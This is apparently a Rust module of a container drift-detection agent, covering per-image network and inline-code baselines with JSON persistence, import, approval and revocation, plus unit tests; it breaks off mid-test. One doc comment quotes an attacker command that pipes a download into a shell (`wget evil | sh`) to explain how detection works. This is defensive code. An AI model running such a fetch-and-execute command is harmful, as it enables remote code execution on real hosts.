//! Per-image network baselines: the listeners and outbound destinations an image's containers
//! showed during a learning window, enforced afterwards, persisted as JSON across restarts
//! and exchanged between hosts (`driftwatch baseline export|import`).
//!
//! The file (`/var/lib/driftwatch/baselines.json` by default) is one object:
//! ```json
//! {"version": 1, "images": {"sha256:…": {"image": "app:1", "first_seen": 1764337015,
//!   "learn_until": 1764337315, "listeners": ["9090/tcp"],
//!   "destinations": ["10.0.0.5:5432/tcp", "[::1]:53/udp"]}}}
//! ```
//! Images are keyed by image id (the config digest, the same on every host that pulled the
//! image), or `repository:tag` when the engine gave no id. Times are Unix seconds; an image
//! whose `learn_until` has passed is enforced. Writes are atomic (temporary file + rename).
//!
//! Behaviour that raised a drift alert is not learned: an undeclared listener seen during
//! the learning window is alerted and kept in `pending_listeners` (alerted again by every
//! new container) until an operator approves it (`driftwatch baseline approve`), unless
//! `network.learn_alerted` restores the old behaviour. Every entry can be revoked
//! (`driftwatch baseline revoke`).
//!
//! The same window learns which inline code each image runs (`inline_code`: `sh -c` of an
//! entrypoint or a health check, `python3 -c` one-liners), keyed by [`InlineKey`]; after the
//! window, inline code of a key never seen is `drift.inline_learned = false`.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use driftwatch_yaml::Diagnostic;
use serde::{Deserialize, Serialize};

pub const BASELINE_VERSION: u32 = 1;
pub const DEFAULT_BASELINE_FILE: &str = "/var/lib/driftwatch/baselines.json";
pub const DEFAULT_LEARNING_WINDOW: Duration = Duration::from_secs(300);
/// At most this many listeners and this many destinations are learned per image: a scan or a
/// fan-out during learning must not grow the file without bound. Beyond it, new ones are
/// drift even while the image learns.
pub const MAX_LEARNED_PER_IMAGE: usize = 4096;
/// At most this many inline-code keys are learned per image (each is up to a few hundred
/// bytes): an image that generates new commands during learning stops learning them here.
pub const MAX_INLINE_PER_IMAGE: usize = 1024;

/// Which inline code counts as "the same" for learning: the interpreter family, the option
/// that carried the code (`stdin` for code read from a pipe or a socket), the parent
/// process's name, and the code's head (its first command word for a shell, its first
/// statement otherwise).
///
/// The parent tells an attacker's shell from the workload's: a web server that never ran
/// `sh -c` during learning does so after a command injection, whatever the command. The head
/// tells commands apart where the parent is the same for all of them: health checks, entry
/// points and `docker exec`/`kubectl exec` all have the runtime as parent (`runc` or its
/// shim, whichever the kernel names at exec: one parent, `<runtime>`), so a health
/// check's `sh -c 'curl -f localhost'` does not hide an `sh -c 'wget evil | sh'` arriving
/// by `exec`. Only the head, not the whole code: workloads that pass changing arguments (file
/// names, ids) to the same command are learned once.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct InlineKey {
    pub family: driftwatch_model::InterpreterFamily,
    pub flag: String,
    pub parent: String,
    #[serde(default)]
    pub head: String,
}

impl std::fmt::Display for InlineKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} {} {:?} (parent {:?})",
            self.family, self.flag, self.head, self.parent
        )
    }
}

/// The whole baseline file.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct BaselineFile {
    pub version: u32,
    #[serde(default)]
    pub images: BTreeMap<String, ImageBaseline>,
}

impl Default for BaselineFile {
    fn default() -> Self {
        BaselineFile {
            version: BASELINE_VERSION,
            images: BTreeMap::new(),
        }
    }
}

/// What one image's containers are known to do on the network.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ImageBaseline {
    /// `repository:tag`, for people reading the file.
    #[serde(default)]
    pub image: String,
    /// When the first container of the image was seen (Unix seconds).
    #[serde(default)]
    pub first_seen: u64,
    /// Learning ends at this time (Unix seconds); from then on, anything new is drift.
    #[serde(default)]
    pub learn_until: u64,
    /// Listening ports beyond the declared ones: `PORT/PROTO`.
    #[serde(default)]
    pub listeners: BTreeSet<String>,
    /// Outbound destinations: `IP:PORT/PROTO` (`[IPv6]:PORT/PROTO`).
    #[serde(default)]
    pub destinations: BTreeSet<String>,
    /// Listeners that raised a drift alert while the image learned: not learned, alerted
    /// again, until approved (`PORT/PROTO`).
    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
    pub pending_listeners: BTreeSet<String>,
    /// Inline code the image ran while it learned.
    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
    pub inline_code: BTreeSet<InlineKey>,
}

/// Which list of an image's baseline an entry is in, by its syntax.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EntryKind {
    /// `PORT/PROTO`.
    Listener,
    /// `IP:PORT/PROTO`.
    Destination,
}

impl EntryKind {
    /// The kind of `item`, or why it is neither.
    pub fn of(item: &str) -> Result<EntryKind, String> {
        if check_listener(item).is_ok() {
            return Ok(EntryKind::Listener);
        }
        check_destination(item).map(|()| EntryKind::Destination).map_err(|_| {
            format!("`{item}` is neither a listener (PORT/PROTO, e.g. 8080/tcp) nor a destination (IP:PORT/PROTO, e.g. 10.0.0.5:5432/tcp)")
        })
    }
}

impl ImageBaseline {
    pub fn learning(&self, now: u64) -> bool {
        now < self.learn_until
    }
}

#[derive(Debug, thiserror::Error)]
pub enum BaselineError {
    #[error("reading baseline file {path}: {source}")]
    Read {
        path: PathBuf,
        source: std::io::Error,
    },
    /// Not JSON of the schema, an unsupported version, or invalid entries: every problem,
    /// each at its FILE:LINE:COL.
    #[error("baseline file {}: {} problem{}:\n{}", path.display(), diagnostics.len(), if diagnostics.len() == 1 { "" } else { "s" }, diagnostics.iter().map(Diagnostic::render).collect::<Vec<_>>().join("\n"))]
    Invalid {
        path: PathBuf,
        diagnostics: Vec<Diagnostic>,
    },
    #[error("writing baseline file {path}: {source}")]
    Write {
        path: PathBuf,
        source: std::io::Error,
    },
    /// A backend other than the file (the alert store): `what` names it.
    #[error("baselines in {what}: {msg}")]
    Backend { what: String, msg: String },
}

/// Where baselines persist: the JSON file, or the alert store's table (the default when the
/// store is open; see `driftwatch baseline`).
pub trait BaselineBackend: Send + Sync + std::fmt::Debug {
    /// The file or database, for messages.
    fn describe(&self) -> String;
    /// What is stored now (nothing stored: an empty baseline).
    fn load(&self) -> Result<BaselineFile, BaselineError>;
    fn save(&self, data: &BaselineFile) -> Result<(), BaselineError>;
    /// Changes whenever anything writes the baselines (this agent, or `driftwatch baseline
    /// import|reset` from another process): a value other than the one after this agent's
    /// last load or save means the stored baselines are to be taken over.
    fn version(&self) -> Option<u64>;
}

/// The JSON file: atomic writes, versioned by inode, size and mtime.
#[derive(Debug)]
pub struct FileBackend(pub PathBuf);

impl BaselineBackend for FileBackend {
    fn describe(&self) -> String {
        self.0.display().to_string()
    }

    fn load(&self) -> Result<BaselineFile, BaselineError> {
        BaselineFile::load(&self.0)
    }

    fn save(&self, data: &BaselineFile) -> Result<(), BaselineError> {
        data.save(&self.0)
    }

    fn version(&self) -> Option<u64> {
        use std::hash::{Hash, Hasher};
        let st = stamp(&self.0)?;
        let mut h = std::collections::hash_map::DefaultHasher::new();
        st.hash(&mut h);
        Some(h.finish())
    }
}

/// Unix seconds now (the model's one clock).
pub fn unix_now() -> u64 {
    driftwatch_model::clock::now_ns() / 1_000_000_000
}

/// `8081/tcp`.
pub fn listener_key(port: u16, proto: &str) -> String {
    format!("{port}/{proto}")
}

/// `10.0.0.5:5432/tcp`, `[::1]:53/udp`.
pub fn destination_key(ip: IpAddr, port: u16, proto: &str) -> String {
    match ip {
        IpAddr::V4(v4) => format!("{v4}:{port}/{proto}"),
        IpAddr::V6(v6) => format!("[{v6}]:{port}/{proto}"),
    }
}

/// Checks one entry of a baseline list: why it is invalid.
type EntryCheck = fn(&str) -> Result<(), String>;

/// The byte offset of the JSON string `s` (quoted, as serde_json writes it) in `text`, from
/// byte `from` on.
fn json_string_offset(text: &str, s: &str, from: usize) -> Option<usize> {
    let quoted = serde_json::to_string(s).ok()?;
    text.get(from..)?.find(&quoted).map(|i| from + i)
}

/// The 1-based line and character column of the JSON string `s` in `text` (from byte
/// `from` on); 1:1 when it is not written as is.
fn json_position(text: &str, s: &str, from: usize) -> (u64, u64) {
    let Some(offset) = json_string_offset(text, s, from) else {
        return (1, 1);
    };
    let before = &text[..offset];
    let line = before.matches('\n').count() + 1;
    let col = before
        .rsplit('\n')
        .next()
        .unwrap_or_default()
        .chars()
        .count()
        + 1;
    (line as u64, col as u64)
}

fn check_proto(p: &str) -> Result<(), String> {
    match p {
        "tcp" | "udp" => Ok(()),
        _ => Err(format!("protocol `{p}` is neither tcp nor udp")),
    }
}

fn check_listener(s: &str) -> Result<(), String> {
    let (port, proto) = s
        .split_once('/')
        .ok_or("expected PORT/PROTO, e.g. 8080/tcp")?;
    port.parse::<u16>()
        .map_err(|_| format!("port `{port}` is not a number from 0 to 65535"))?;
    check_proto(proto)
}

fn check_destination(s: &str) -> Result<(), String> {
    let (addr, proto) = s
        .rsplit_once('/')
        .ok_or("expected IP:PORT/PROTO, e.g. 10.0.0.5:5432/tcp or [::1]:53/udp")?;
    check_proto(proto)?;
    addr.parse::<std::net::SocketAddr>()
        .map_err(|_| format!("`{addr}` is not IP:PORT ([IPv6]:PORT for IPv6)"))?;
    Ok(())
}

impl BaselineFile {
    /// Parses and validates a baseline file's text; `path` names it in errors. Every invalid
    /// entry is reported, not only the first.
    pub fn parse(text: &str, path: &Path) -> Result<BaselineFile, BaselineError> {
        let name = path.display().to_string();
        let invalid = |diagnostics: Vec<Diagnostic>| BaselineError::Invalid {
            path: path.to_path_buf(),
            diagnostics,
        };
        let file: BaselineFile = serde_json::from_str(text).map_err(|e| {
            // serde_json appends its own " at line L column C".
            let msg = e.to_string();
            let msg = msg
                .rfind(" at line ")
                .map_or(msg.as_str(), |i| &msg[..i])
                .to_string();
            invalid(vec![
                Diagnostic::error(name.as_str(), e.line() as u64, e.column() as u64, msg)
                    .with_source(text),
            ])
        })?;
        // serde_json keeps no positions of values: each problem points at its text.
        let at = |needle: &str, from: usize, message: String| {
            let (line, col) = json_position(text, needle, from);
            Diagnostic::error(name.as_str(), line, col, message).with_source(text)
        };
        if file.version != BASELINE_VERSION {
            return Err(invalid(vec![at(
                "version",
                0,
                format!(
                    "version {} is not supported (this driftwatch reads version {BASELINE_VERSION})",
                    file.version
                ),
            )]));
        }
        let mut problems = Vec::new();
        for (key, img) in &file.images {
            let key_at = json_string_offset(text, key, 0).unwrap_or(0);
            if key.is_empty() {
                problems.push(at(key, 0, "an image with an empty key".to_string()));
            }
            let lists: [(&str, &BTreeSet<String>, EntryCheck); 3] = [
                ("listener", &img.listeners, check_listener),
                ("destination", &img.destinations, check_destination),
                ("pending listener", &img.pending_listeners, check_listener),
            ];
            for (what, items, check) in lists {
                for item in items {
                    if let Err(why) = check(item) {
                        problems.push(at(
                            item,
                            key_at,
                            format!("image {key}: {what} `{item}`: {why}"),
                        ));
                    }
                }
            }
        }
        if !problems.is_empty() {
            problems.sort_by_key(|d| (d.line, d.col));
            return Err(invalid(problems));
        }
        Ok(file)
    }

    /// Reads a baseline file; a missing file is an empty baseline.
    pub fn load(path: &Path) -> Result<BaselineFile, BaselineError> {
        match driftwatch_fs::host::own_file_string(path) {
            Ok(text) => BaselineFile::parse(&text, path),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(BaselineFile::default()),
            Err(source) => Err(BaselineError::Read {
                path: path.to_path_buf(),
                source,
            }),
        }
    }

    pub fn to_json(&self) -> String {
        let mut s = serde_json::to_string_pretty(self).unwrap_or_default();
        s.push('\n');
        s
    }

    /// Writes atomically: a temporary file in the same directory, fsync, rename. Creates the
    /// directory when missing.
    pub fn save(&self, path: &Path) -> Result<(), BaselineError> {
        let err = |source| BaselineError::Write {
            path: path.to_path_buf(),
            source,
        };
        let dir = path
            .parent()
            .filter(|d| !d.as_os_str().is_empty())
            .unwrap_or(Path::new("."));
        std::fs::create_dir_all(dir).map_err(err)?;
        let name = path
            .file_name()
            .map_or_else(|| "baselines.json".into(), |n| n.to_string_lossy());
        let tmp = dir.join(format!(".{name}.tmp.{}", std::process::id()));
        let write = || -> std::io::Result<()> {
            let mut f = std::fs::File::create(&tmp)?;
            f.write_all(self.to_json().as_bytes())?;
            f.sync_all()?;
            std::fs::rename(&tmp, path)
        };
        write().map_err(|e| {
            let _ = std::fs::remove_file(&tmp);
            err(e)
        })
    }

    /// Merges `other` in (imported entries are enforced from `now`: their learning is over,
    /// whatever their own window said). With `replace`, an imported image's entry replaces
    /// the existing one instead of adding to it. Returns how many images were imported.
    pub fn import(&mut self, other: BaselineFile, now: u64, replace: bool) -> usize {
        let n = other.images.len();
        for (key, mut img) in other.images {
            img.learn_until = img.learn_until.min(now);
            match self.images.get_mut(&key) {
                Some(mine) if !replace => {
                    mine.listeners.extend(img.listeners);
                    mine.destinations.extend(img.destinations);
                    mine.pending_listeners.extend(img.pending_listeners);
                    mine.inline_code.extend(img.inline_code);
                    let learned = &mine.listeners;
                    mine.pending_listeners.retain(|l| !learned.contains(l));
                    mine.learn_until = mine.learn_until.min(now);
                    if mine.image.is_empty() {
                        mine.image = img.image;
                    }
                }
                _ => {
                    self.images.insert(key, img);
                }
            }
        }
        n
    }
}

impl ImageBaseline {
    /// Adds `items` to the baseline (listeners leave the pending list). Errors name every
    /// item that is neither a listener nor a destination; nothing changes then.
    pub fn approve(&mut self, items: &[String]) -> Result<usize, Vec<String>> {
        let kinds = kinds_of(items)?;
        let mut added = 0;
        for (item, kind) in items.iter().zip(kinds) {
            self.pending_listeners.remove(item);
            let set = match kind {
                EntryKind::Listener => &mut self.listeners,
                EntryKind::Destination => &mut self.destinations,
            };
            added += usize::from(set.insert(item.clone()));
        }
        Ok(added)
    }

    /// Removes `items` from the baseline and the pending list: they are drift again. Errors
    /// name the malformed items and those that are in neither list; nothing changes then.
    pub fn revoke(&mut self, items: &[String]) -> Result<usize, Vec<String>> {
        let kinds = kinds_of(items)?;
        let missing: Vec<String> = items
            .iter()
            .zip(&kinds)
            .filter(|(item, kind)| match kind {
                EntryKind::Listener => {
                    !self.listeners.contains(*item) && !self.pending_listeners.contains(*item)
                }
                EntryKind::Destination => !self.destinations.contains(*item),
            })
            .map(|(item, _)| format!("`{item}` is not in the baseline"))
            .collect();
        if !missing.is_empty() {
            return Err(missing);
        }
        let mut removed = 0;
        for item in items {
            removed += usize::from(
                self.listeners.remove(item)
                    | self.pending_listeners.remove(item)
                    | self.destinations.remove(item),
            );
        }
        Ok(removed)
    }
}

fn kinds_of(items: &[String]) -> Result<Vec<EntryKind>, Vec<String>> {
    let (ok, bad): (Vec<_>, Vec<_>) = items
        .iter()
        .map(|i| EntryKind::of(i))
        .partition(Result::is_ok);
    if !bad.is_empty() {
        return Err(bad.into_iter().filter_map(Result::err).collect());
    }
    Ok(ok.into_iter().filter_map(Result::ok).collect())
}

/// What the baseline says about one observation.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Decision {
    /// Declared by the image or already in the baseline.
    Known,
    /// New, and recorded: the image is still learning.
    Learned,
    /// New, not allowed: drift. `learned` says whether it was recorded anyway (an undeclared
    /// listener during learning with `network.learn_alerted`).
    Drift { learned: bool },
    /// Drift that waits for an operator's approval (an undeclared listener seen while the
    /// image learned): alerted, not learned.
    Pending,
}

/// The agent's live baselines: a [`BaselineFile`] plus where it persists and the window.
pub struct BaselineStore {
    backend: Option<std::sync::Arc<dyn BaselineBackend>>,
    data: BaselineFile,
    window: Duration,
    /// Learn undeclared listeners seen during the window although they were alerted (the
    /// old behaviour, `network.learn_alerted`).
    learn_alerted: bool,
    dirty: bool,
    /// The stored version as last read or written by this store: another one was written by
    /// someone else (`driftwatch baseline import|reset`) and is taken over.
    disk_stamp: Option<u64>,
}

/// What tells one version of the file from another (rename gives a new inode).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
struct FileStamp {
    ino: u64,
    len: u64,
    mtime: Option<SystemTime>,
}

fn stamp(path: &Path) -> Option<FileStamp> {
    use std::os::unix::fs::MetadataExt;
    let md = driftwatch_fs::host::own_metadata(path).ok()?;
    Some(FileStamp {
        ino: md.ino(),
        len: md.len(),
        mtime: md.modified().ok(),
    })
}

impl BaselineStore {
    /// Opens the store at `path` (`None`: in memory only), reading what is there.
    pub fn open(path: Option<PathBuf>, window: Duration) -> Result<BaselineStore, BaselineError> {
        let backend = path
            .map(|p| std::sync::Arc::new(FileBackend(p)) as std::sync::Arc<dyn BaselineBackend>);
        BaselineStore::open_backend(backend, window)
    }

    /// Opens the store on `backend` (`None`: in memory only), reading what is there.
    pub fn open_backend(
        backend: Option<std::sync::Arc<dyn BaselineBackend>>,
        window: Duration,
    ) -> Result<BaselineStore, BaselineError> {
        let data = match &backend {
            Some(b) => b.load()?,
            None => BaselineFile::default(),
        };
        let disk_stamp = backend.as_ref().and_then(|b| b.version());
        Ok(BaselineStore {
            backend,
            data,
            window,
            learn_alerted: false,
            dirty: false,
            disk_stamp,
        })
    }

    /// The learning window of images first seen from now on (a reload).
    pub fn set_window(&mut self, window: Duration) {
        self.window = window;
    }

    /// Whether alerted listeners are learned (`network.learn_alerted`; a reload).
    pub fn set_learn_alerted(&mut self, learn: bool) {
        self.learn_alerted = learn;
    }

    pub fn data(&self) -> &BaselineFile {
        &self.data
    }

    /// Where the baselines persist, for messages (`None`: memory only).
    pub fn location(&self) -> Option<String> {
        self.backend.as_ref().map(|b| b.describe())
    }

    /// The image's baseline, starting its learning window now when it is new.
    pub fn image(&mut self, key: &str, name: &str, now: u64) -> &mut ImageBaseline {
        if !self.data.images.contains_key(key) {
            self.dirty = true;
            self.data.images.insert(
                key.to_string(),
                ImageBaseline {
                    image: name.to_string(),
                    first_seen: now,
                    learn_until: now.saturating_add(self.window.as_secs()),
                    ..ImageBaseline::default()
                },
            );
        }
        self.data.images.get_mut(key).expect("inserted above")
    }

    /// A listener on `item` (`PORT/PROTO`): the declared ones are known; an undeclared one not
    /// in the baseline is drift from the first second. While the image learns it is kept
    /// pending (approved by an operator, or learned with `learn_alerted`).
    pub fn observe_listener(
        &mut self,
        key: &str,
        name: &str,
        item: &str,
        declared: bool,
        now: u64,
    ) -> Decision {
        if declared {
            return Decision::Known;
        }
        let learn_alerted = self.learn_alerted;
        let img = self.image(key, name, now);
        if img.listeners.contains(item) {
            return Decision::Known;
        }
        if img.pending_listeners.contains(item) {
            return Decision::Pending;
        }
        if img.learning(now) && learn_alerted && img.listeners.len() < MAX_LEARNED_PER_IMAGE {
            img.listeners.insert(item.to_string());
            self.dirty = true;
            return Decision::Drift { learned: true };
        }
        if img.learning(now) && img.pending_listeners.len() < MAX_LEARNED_PER_IMAGE {
            img.pending_listeners.insert(item.to_string());
            self.dirty = true;
            return Decision::Pending;
        }
        Decision::Drift { learned: false }
    }

    /// An outbound destination `item` (`IP:PORT/PROTO`): learned during the window, drift
    /// afterwards when not in the baseline.
    pub fn observe_destination(&mut self, key: &str, name: &str, item: &str, now: u64) -> Decision {
        let img = self.image(key, name, now);
        if img.destinations.contains(item) {
            return Decision::Known;
        }
        if img.learning(now) && img.destinations.len() < MAX_LEARNED_PER_IMAGE {
            img.destinations.insert(item.to_string());
            self.dirty = true;
            return Decision::Learned;
        }
        Decision::Drift { learned: false }
    }

    /// Inline code of `item`'s key: learned during the window, drift afterwards when the
    /// image never ran it.
    pub fn observe_inline(
        &mut self,
        key: &str,
        name: &str,
        item: &InlineKey,
        now: u64,
    ) -> Decision {
        let img = self.image(key, name, now);
        if img.inline_code.contains(item) {
            return Decision::Known;
        }
        if img.learning(now) && img.inline_code.len() < MAX_INLINE_PER_IMAGE {
            img.inline_code.insert(item.clone());
            self.dirty = true;
            return Decision::Learned;
        }
        Decision::Drift { learned: false }
    }

    /// Writes the file if anything changed since the last write.
    pub fn flush(&mut self) -> Result<(), BaselineError> {
        if !self.dirty {
            return Ok(());
        }
        if let Some(b) = &self.backend {
            b.save(&self.data)?;
            self.disk_stamp = b.version();
        }
        self.dirty = false;
        Ok(())
    }

    /// Takes over the file when another program changed it since this store last read or
    /// wrote it (what was learned here since the last write is dropped: the file wins, so a
    /// `reset` stays a reset), then writes what changed. Returns whether it reloaded.
    pub fn sync(&mut self) -> Result<bool, BaselineError> {
        let mut reloaded = false;
        if let Some(b) = self.backend.clone() {
            let now = b.version();
            if now != self.disk_stamp {
                self.disk_stamp = now;
                self.data = b.load()?;
                self.dirty = false;
                reloaded = true;
            }
        }
        self.flush()?;
        Ok(reloaded)
    }
}

#[cfg(test)]
#[expect(clippy::disallowed_methods, reason = "tests read their own fixtures")]
mod tests {
    use super::*;

    #[test]
    fn approve_and_revoke_change_one_entry_and_name_bad_ones() {
        let mut img = ImageBaseline {
            pending_listeners: ["4444/tcp".to_string()].into(),
            destinations: ["10.0.0.5:5432/tcp".to_string()].into(),
            ..ImageBaseline::default()
        };
        assert_eq!(
            img.approve(&["4444/tcp".into(), "[::1]:53/udp".into()]),
            Ok(2)
        );
        assert!(img.pending_listeners.is_empty());
        assert!(img.listeners.contains("4444/tcp"));
        assert!(img.destinations.contains("[::1]:53/udp"));
        let e = img.approve(&["nope".into(), "1/tcp".into()]).unwrap_err();
        assert_eq!(e.len(), 1, "{e:?}");
        assert!(e[0].contains("`nope`"), "{e:?}");
        assert!(
            !img.listeners.contains("1/tcp"),
            "nothing changes on an error"
        );
        let e = img.revoke(&["9/tcp".into()]).unwrap_err();
        assert_eq!(e, vec!["`9/tcp` is not in the baseline".to_string()]);
        assert_eq!(img.revoke(&["10.0.0.5:5432/tcp".into()]), Ok(1));
        assert_eq!(img.revoke(&["4444/tcp".into()]), Ok(1));
        assert!(img.listeners.is_empty() && !img.destinations.contains("10.0.0.5:5432/tcp"));
    }

    #[test]
    fn pending_listeners_are_validated_and_omitted_when_empty() {
        let text = r#"{"version":1,"images":{"k":{"pending_listeners":["x/tcp"]}}}"#;
        let e = BaselineFile::parse(text, Path::new("/b.json")).unwrap_err();
        assert!(e.to_string().contains("pending listener `x/tcp`"), "{e}");
        let mut f = BaselineFile::default();
        f.images.insert("k".into(), ImageBaseline::default());
        assert!(!f.to_json().contains("pending"));
    }

    const IMG: &str = "sha256:aaaa";

    fn store(window: u64) -> BaselineStore {
        BaselineStore::open(None, Duration::from_secs(window)).unwrap()
    }

    #[test]
    fn destinations_are_learned_during_the_window_and_drift_after() {
        let mut s = store(300);
        let t0 = 1_000;
        assert_eq!(
            s.observe_destination(IMG, "app:1", "10.0.0.5:5432/tcp", t0),
            Decision::Learned
        );
        assert_eq!(
            s.observe_destination(IMG, "app:1", "10.0.0.5:5432/tcp", t0 + 10),
            Decision::Known
        );
        // The window is the image's, started by its first container: 300 s after t0.
        assert_eq!(
            s.observe_destination(IMG, "app:1", "10.0.0.6:5432/tcp", t0 + 299),
            Decision::Learned
        );
        assert_eq!(
            s.observe_destination(IMG, "app:1", "10.0.0.7:5432/tcp", t0 + 300),
            Decision::Drift { learned: false }
        );
        assert_eq!(
            s.observe_destination(IMG, "app:1", "10.0.0.5:5432/tcp", t0 + 3000),
            Decision::Known
        );
        // Not learned after the window: still drift the next time.
        assert_eq!(
            s.observe_destination(IMG, "app:1", "10.0.0.7:5432/tcp", t0 + 3001),
            Decision::Drift { learned: false }
        );
        // Another image learns on its own clock.
        assert_eq!(
            s.observe_destination("sha256:bbbb", "other:2", "10.0.0.7:5432/tcp", t0 + 3001),
            Decision::Learned
        );
    }

    #[test]
    fn undeclared_listeners_are_drift_from_the_first_second() {
        let mut s = store(300);
        assert_eq!(
            s.observe_listener(IMG, "app:1", "8080/tcp", true, 0),
            Decision::Known
        );
        assert_eq!(
            s.observe_listener(IMG, "app:1", "9090/tcp", false, 0),
            Decision::Pending
        );
        // Alerted during the window: not learned, still drift afterwards.
        assert_eq!(
            s.observe_listener(IMG, "app:1", "9090/tcp", false, 1000),
            Decision::Pending
        );
        assert!(s.data().images[IMG].listeners.is_empty());
        assert_eq!(
            s.observe_listener(IMG, "app:1", "4444/tcp", false, 1000),
            Decision::Drift { learned: false }
        );
        assert!(!s.data().images[IMG].listeners.contains("4444/tcp"));
        assert!(!s.data().images[IMG].pending_listeners.contains("4444/tcp"));
        // The old behaviour, on request: learned during the window, known afterwards.
        let mut old = store(300);
        old.set_learn_alerted(true);
        assert_eq!(
            old.observe_listener(IMG, "app:1", "9090/tcp", false, 0),
            Decision::Drift { learned: true }
        );
        assert_eq!(
            old.observe_listener(IMG, "app:1", "9090/tcp", false, 1000),
            Decision::Known
        );
    }

    #[test]
    fn learning_is_bounded_per_image() {
        let mut s = store(300);
        for port in 0..MAX_LEARNED_PER_IMAGE as u16 {
            let item = format!("10.0.0.1:{port}/tcp");
            assert_eq!(
                s.observe_destination(IMG, "app:1", &item, 1),
                Decision::Learned
            );
        }
        assert_eq!(
            s.observe_destination(IMG, "app:1", "10.0.0.2:1/tcp", 1),
            Decision::Drift { learned: false }
        );
        assert_eq!(
            s.data().images[IMG].destinations.len(),
            MAX_LEARNED_PER_IMAGE
        );
    }

    #[test]
    fn zero_window_enforces_at_once() {
        let mut s = store(0);
        assert_eq!(
            s.observe_destination(IMG, "app:1", "127.0.0.1:1/tcp", 5),
            Decision::Drift { learned: false }
        );
    }

    #[test]
    fn persists_and_reloads() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("state/baselines.json");
        let mut s = BaselineStore::open(Some(path.clone()), Duration::from_secs(60)).unwrap();
        s.observe_destination(IMG, "app:1", "[::1]:53/udp", 100);
        s.observe_listener(IMG, "app:1", "9090/tcp", false, 100);
        s.flush().unwrap();
        let names: Vec<_> = std::fs::read_dir(path.parent().unwrap())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        assert_eq!(names, ["baselines.json"], "no temporary file left behind");
        let mut again = BaselineStore::open(Some(path.clone()), Duration::from_secs(60)).unwrap();
        assert_eq!(again.data(), s.data());
        let img = &again.data().images[IMG];
        assert_eq!((img.first_seen, img.learn_until), (100, 160));
        // The window is not restarted by a restart: at 200, learning is over.
        assert_eq!(
            again.observe_destination(IMG, "app:1", "[::1]:53/udp", 200),
            Decision::Known
        );
        assert_eq!(
            again.observe_destination(IMG, "app:1", "[::1]:54/udp", 200),
            Decision::Drift { learned: false }
        );
    }

    #[test]
    fn takes_over_a_file_changed_by_another_program() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("baselines.json");
        let mut agent = BaselineStore::open(Some(path.clone()), Duration::from_secs(60)).unwrap();
        agent.observe_destination(IMG, "app:1", "10.0.0.1:1/tcp", 0);
        agent.flush().unwrap();
        assert!(!agent.sync().unwrap(), "its own write is not a change");
        // `driftwatch baseline reset` meanwhile:
        BaselineFile::default().save(&path).unwrap();
        assert!(agent.sync().unwrap());
        assert!(agent.data().images.is_empty());
    }

    #[test]
    fn inline_code_persists_imports_and_is_bounded() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("baselines.json");
        let key = |head: &str| InlineKey {
            family: driftwatch_model::InterpreterFamily::Shell,
            flag: "-c".into(),
            parent: "<runtime>".into(),
            head: head.into(),
        };
        let mut s = BaselineStore::open(Some(path.clone()), Duration::from_secs(60)).unwrap();
        assert_eq!(
            s.observe_inline(IMG, "app:1", &key("curl"), 0),
            Decision::Learned
        );
        s.flush().unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains("\"inline_code\""), "{text}");
        let again = BaselineStore::open(Some(path), Duration::from_secs(60)).unwrap();
        assert_eq!(again.data(), s.data());
        let mut other = BaselineFile::default();
        other.import(again.data().clone(), 0, false);
        other.images.get_mut(IMG).unwrap().inline_code.clear();
        other.import(again.data().clone(), 0, false);
        assert!(other.images[IMG].inline_code.contains(&key("curl")));
        let bad = r#"{"version":1,"images":{"k":{"inline_code":[{"family":"cobol","flag":"-c","parent":"x"}]}}}"#;
        assert!(BaselineFile::parse(bad, Path::new("/b.json")).is_err());
        let mut s = store(300);
        for i in 0..MAX_INLINE_PER_IMAGE {
            s.observe_inline(IMG, "app:1", &key(&i.to_string()), 1);
        }
        assert_eq!(
            s.observe_inline(IMG, "app:1", &key("one more"), 1),
            Decision::Drift { learned: false }
        );
    }

    #[test]
    fn missing_file_is_empty() {
        let dir = tempfile::tempdir().unwrap();
        let f = BaselineFile::load(&dir.path().join("none.json")).unwrap();
        assert!(f.images.is_empty());
    }

    #[test]
    fn import_enforces_from_the_start_and_merges() {
        let mut staging = store(300);
        staging.observe_destination(IMG, "app:1", "10.0.0.5:5432/tcp", 1000);
        let exported = staging.data().to_json();
        let parsed = BaselineFile::parse(&exported, Path::new("export.json")).unwrap();
        assert_eq!(&parsed, staging.data());

        let mut prod = BaselineFile::default();
        prod.images.insert(
            IMG.into(),
            ImageBaseline {
                destinations: ["10.0.0.9:80/tcp".to_string()].into(),
                learn_until: u64::MAX,
                ..ImageBaseline::default()
            },
        );
        assert_eq!(prod.import(parsed.clone(), 1010, false), 1);
        let img = &prod.images[IMG];
        assert_eq!(img.destinations.len(), 2);
        assert_eq!(img.image, "app:1");
        assert!(!img.learning(1010), "imported baselines are enforced");
        let mut replaced = prod.clone();
        replaced.import(parsed, 1010, true);
        assert_eq!(replaced.images[IMG].destinations.len(), 1);
    }

    #[test]
    fn bad_files_say_where_and_what() {
        let p = Path::new("/etc/driftwatch/b.json");
        let diags = |text: &str| match BaselineFile::parse(text, p) {
            Err(BaselineError::Invalid { diagnostics, .. }) => diagnostics
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>(),
            other => panic!("{other:?}"),
        };
        let e = BaselineFile::parse("{\"version\": 1,\n \"images\": [}", p).unwrap_err();
        let msg = e.to_string();
        assert!(
